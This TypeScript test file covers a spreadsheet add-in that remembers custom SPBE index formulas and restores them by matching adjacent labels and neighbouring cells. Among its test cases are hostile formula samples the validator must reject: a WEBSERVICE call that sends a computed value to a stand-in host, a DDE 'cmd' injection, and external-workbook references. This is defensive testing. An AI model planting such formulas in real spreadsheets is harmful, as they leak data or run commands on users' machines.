import type { CellValue } from "../../../../src/assessment/types";
import type { Grid } from "../../../../src/grid/grid";
import { formulasToRemember, type FormulaWithResult } from "../../../../src/session/remembered/formulas-to-remember";
import { isRestorable, type RememberedFormula } from "../../../../src/session/remembered/remembered-formula";
import { valuesInPlace } from "../../../../src/session/remembered/values-in-place";

const ROOM = { of: () => 100, most: 100_000 };
const grid = (values: readonly (readonly CellValue[])[], sheet = "Ringkasan"): Grid => ({
  sheet,
  firstRow: 0,
  firstColumn: 0,
  hidden: false,
  values,
});
const at = (row: number, column: number, formula: string, value: CellValue = 3.7, sheet = "Ringkasan"): FormulaWithResult => ({
  place: { sheet, row, column },
  formula,
  value,
  spill: null,
});
const remembered = (row: number, column: number, beside: string, more: Partial<RememberedFormula> = {}): RememberedFormula => ({
  sheet: "Ringkasan",
  row,
  column,
  formula: "=SPBE.INDEX()",
  beside,
  around: [],
  rows: 1,
  columns: 1,
  ...more,
});
const rememberedOf = (standing: readonly FormulaWithResult[], grids: readonly Grid[], before: readonly RememberedFormula[] = []) =>
  formulasToRemember(standing, { grids, formulas: standing }, before, ROOM);

describe("formulas that are remembered", () => {
  it("are known by the nearest text to their left, else above; what is calculated tells nothing", () => {
    const values = [
      ["Rekap", null, "Nilai"],
      ["Indeks", 1, 3.7],
      [null, "Sangat Baik", 3.7],
    ];
    const standing = [at(1, 2, "=SPBE.INDEX()"), at(2, 1, "=SPBE.PREDICATE()", "Sangat Baik"), at(2, 2, "=[2]!_xldudf_SPBE_INDEX()")];
    const { formulas, left } = rememberedOf(standing, [grid(values)]);
    expect(formulas.map(({ formula, beside }) => [formula, beside])).toEqual([
      ["=SPBE.INDEX()", "Indeks"],
      ["=SPBE.INDEX()", "Nilai"],
    ]);
    // Nothing but numbers above it, so nothing would tell its place.
    expect(left).toBe(1);
  });

  it("are those of ours alone, without cells that another fills", () => {
    const spilling = { ...at(0, 1, "=SPBE.SUMMARY()", "Indeks"), spill: { rows: 2, columns: 2 } };
    const standing = [spilling, at(1, 1, "=SPBE.SUMMARY()", "Domain 1"), at(3, 1, "=SUM(A1:A2)")];
    const values = [["Rekap", "Indeks", 3.7], [null, "Domain 1", 3], [], ["Jumlah", 4]];
    const { formulas, left } = rememberedOf(standing, [grid(values)]);
    expect(formulas).toEqual([remembered(0, 1, "Rekap", { formula: "=SPBE.SUMMARY()", rows: 2, columns: 2 })]);
    expect(left).toBe(0);
  });

  it("are no parts of an array formula, each of which would be something else alone", () => {
    const standing = [at(0, 1, "=SPBE.SUMMARY()", "Indeks"), at(0, 2, "=SPBE.SUMMARY()", 3.7)];
    expect(rememberedOf(standing, [grid([["Rekap", "Indeks", 3.7]])])).toEqual({ formulas: [], left: 2, found: { values: [], lost: [] } });
  });

  it("stay remembered where a value stands for them now", () => {
    const grids = [
      grid([
        ["Indeks", 3.7],
        ["Predikat", "Sangat Baik"],
      ]),
    ];
    const before = [remembered(0, 1, "Indeks"), remembered(1, 1, "Predikat", { formula: "=SPBE.PREDICATE()" })];
    const { formulas } = rememberedOf([at(0, 1, "=SPBE.PREDICATE(B1)")], grids, before);
    expect(formulas.map(({ formula }) => formula)).toEqual(["=SPBE.PREDICATE()", "=SPBE.PREDICATE(B1)"]);
  });

  it("are none that read cells which nothing would tell apart: without a text on their rows or a header, whole columns, stacks of sheets", () => {
    const values = [["Indeks", 3.7], [], [1, 3], [2, 4], ["Satu", 5], ["Dua", 6]];
    for (const read of ["A3:B4", "B1,A3:B4", "B5:B6", "B:B", "3:4", "Lain:Ringkasan!A1", "Lain!A1"]) {
      const { formulas, left } = rememberedOf([at(0, 1, `=SPBE.INDEX(${read})`)], [grid(values)]);
      expect([read, formulas, left]).toEqual([read, [], 1]);
    }
  });

  it("are as many as fit; the others are counted", () => {
    const many = Array.from({ length: 1200 }, (_, row) => at(row, 1, `=SPBE.PREDICATE(B${row + 1})`));
    const grids = [grid(many.map((_, row) => [`Baris ${row}`, 3]))];
    const all = rememberedOf(many, grids);
    expect([all.formulas.length, all.left]).toEqual([1000, 200]);
    const some = formulasToRemember(many, { grids, formulas: many }, [], { of: () => 100, most: 250 });
    expect([some.formulas.length, some.left]).toEqual([2, 1198]);
  });

  it.each([
    ["=SPBE.INDEX(A8:F64)", true],
    ['="Indeks "&TEXT(ROUND(SPBE.INDEX(Tabel1[Level]),2),"0,00")', true],
    ["=IFERROR(SPBE.INDEX('Penilaian Mandiri'!A8:F64),0)", true],
    ["=SUM(A1:A3)", false],
    ["SPBE.INDEX()", false],
    ['=WEBSERVICE("http://a.example/"&SPBE.INDEX())', false],
    ['=HYPERLINK("http://a.example",SPBE.INDEX())', false],
    ["=SPBE.INDEX([2]Lain!A8:F64)", false],
    ["=SPBE.INDEX('C:\\[lain.xlsx]Lembar'!A8:F64)", false],
    ["=SPBE.INDEX()+cmd|'/c calc'!A1", false],
    [`=SPBE.INDEX()&"${"x".repeat(8200)}"`, false],
  ])("are put back only where nothing reaches out of the workbook: %s", (formula, expected) => {
    expect(isRestorable(formula)).toBe(expected);
  });
});

describe("values in place of remembered formulas", () => {
  const found = (values: readonly (readonly CellValue[])[], one: RememberedFormula, standing: readonly FormulaWithResult[] = []) =>
    valuesInPlace([one], { grids: [grid(values)], formulas: standing });

  it("are found where the text beside them is the same", () => {
    const { values, lost } = found([["Indeks", 3.7]], remembered(0, 1, "Indeks"));
    expect(values).toEqual([
      { place: { sheet: "Ringkasan", row: 0, column: 1 }, value: 3.7, formula: "=SPBE.INDEX()", rows: 1, columns: 1, crowded: false },
    ]);
    expect(lost).toEqual([]);
  });

  it("are known though a result beside them became a text", () => {
    const before = [remembered(0, 1, "Predikat", { formula: "=SPBE.PREDICATE()" }), remembered(0, 2, "Predikat")];
    const { values } = valuesInPlace(before, { grids: [grid([["Predikat", "Sangat Baik", 3.7]])], formulas: [] });
    expect(values).toHaveLength(2);
  });

  it("are none where the formula stands, in any form, or the cell is empty", () => {
    const none = { values: [], lost: [] };
    expect(found([["Indeks", 3.7]], remembered(0, 1, "Indeks"), [at(0, 1, "=_xldudf_SPBE_INDEX()")])).toEqual(none);
    expect(found([["Indeks", null]], remembered(0, 1, "Indeks"))).toEqual(none);
    expect(found([["Indeks", " "]], remembered(0, 1, "Indeks"))).toEqual(none);
    expect(found([["Indeks", 3.7]], remembered(0, 1, "Indeks"), [at(0, 1, "=SUM(A1)")])).toEqual(none);
  });

  it("are never offered where the text beside them is another; the formula is named", () => {
    const moved = [["Catatan baru"], ["Indeks", 3.7]];
    expect(found(moved, remembered(0, 1, "Indeks"))).toEqual({ values: [], lost: [remembered(0, 1, "Indeks")] });
  });

  describe("are never offered where the formula would read other cells than before", () => {
    const level = (name: string, value: number): readonly CellValue[] => [null, name, null, value];
    const list = [["No", "Indikator", "Bobot", "Nilai"], level("Arsitektur", 3), level("Peta rencana", 4), level("Data", 2)];
    const summary = grid([["Indeks", 3.7]]);
    const one = rememberedOf([at(0, 1, "=SPBE.INDEX('Lembar kerja'!B2:D4)")], [summary, grid(list, "Lembar kerja")]).formulas[0]!;
    const foundIn = (values: readonly (readonly CellValue[])[]) => {
      const { values: offered, lost } = valuesInPlace([one], { grids: [summary, grid(values, "Lembar kerja")], formulas: [] });
      return { offered: offered.length, lost: lost.length };
    };
    const [head, first, second, last] = list as [CellValue[], CellValue[], CellValue[], CellValue[]];

    it("though it is known by the text beside it", () => {
      expect(one.around).toEqual(["-2 Arsitektur", "-2 Data", "-1 Nilai"]);
      expect(foundIn(list)).toEqual({ offered: 1, lost: 0 });
      // Other levels are what a formula is for.
      expect(foundIn([head, level("Arsitektur", 5), second, last])).toEqual({ offered: 1, lost: 0 });
    });

    it.each<[string, readonly (readonly CellValue[])[]]>([
      ["a row was inserted above", [[null, null, null, null], head, first, second, last]],
      ["a row was inserted among them", [head, first, level("Baru", 1), second, last]],
      ["a row was deleted", [head, first, last]],
      ["rows were sorted", [head, last, second, first]],
      ["a column was inserted", list.map(([no, name, ...others]) => [no ?? null, name ?? null, null, ...others])],
      ["a column was inserted before the names", list.map(([no, ...others]) => [no ?? null, null, ...others])],
      ["a column was deleted", list.map(([no, name, , value]) => [no ?? null, name ?? null, value ?? null])],
    ])("where %s", (_, values) => expect(foundIn(values)).toEqual({ offered: 0, lost: 1 }));

    it("also where the range begins with the header", () => {
      const whole = rememberedOf([at(0, 1, "=SPBE.INDEX('Lembar kerja'!A1:D4)")], [summary, grid(list, "Lembar kerja")]).formulas[0]!;
      const among = [head, first, level("Baru", 1), second, last];
      expect(whole.around).toEqual(["-1 Bobot", "-2 Data", "-1 Nilai"]);
      expect(valuesInPlace([whole], { grids: [summary, grid(among, "Lembar kerja")], formulas: [] }).lost).toEqual([whole]);
    });

    it("where the sheet it reads is gone", () => {
      expect(valuesInPlace([one], { grids: [summary], formulas: [] })).toEqual({ values: [], lost: [one] });
    });
  });

  it("are none where the formula moved along with its text", () => {
    const moved = [
      ["Catatan baru", 9],
      ["Indeks", 3.7],
    ];
    expect(found(moved, remembered(0, 1, "Indeks"), [at(1, 1, "=SPBE.INDEX()")])).toEqual({ values: [], lost: [] });
  });

  it("are none on a sheet that is gone, and none of a formula that reaches out of the workbook", () => {
    expect(found([["Indeks", 3.7]], remembered(0, 1, "Indeks", { sheet: "Lama" }))).toEqual({ values: [], lost: [] });
    const hostile = remembered(0, 1, "Indeks", { formula: '=WEBSERVICE("http://a.example/"&SPBE.INDEX())' });
    expect(found([["Indeks", 3.7]], hostile)).toEqual({ values: [], lost: [] });
  });

  it("are crowded where other cells of the result hold something", () => {
    const wide = remembered(0, 1, "Rekap", { formula: "=SPBE.SUMMARY()", rows: 2, columns: 2 });
    expect(found([["Rekap", "Indeks", 3.7]], wide).values[0]?.crowded).toBe(true);
    expect(found([["Rekap", "Indeks"], []], wide).values[0]?.crowded).toBe(false);
  });
});
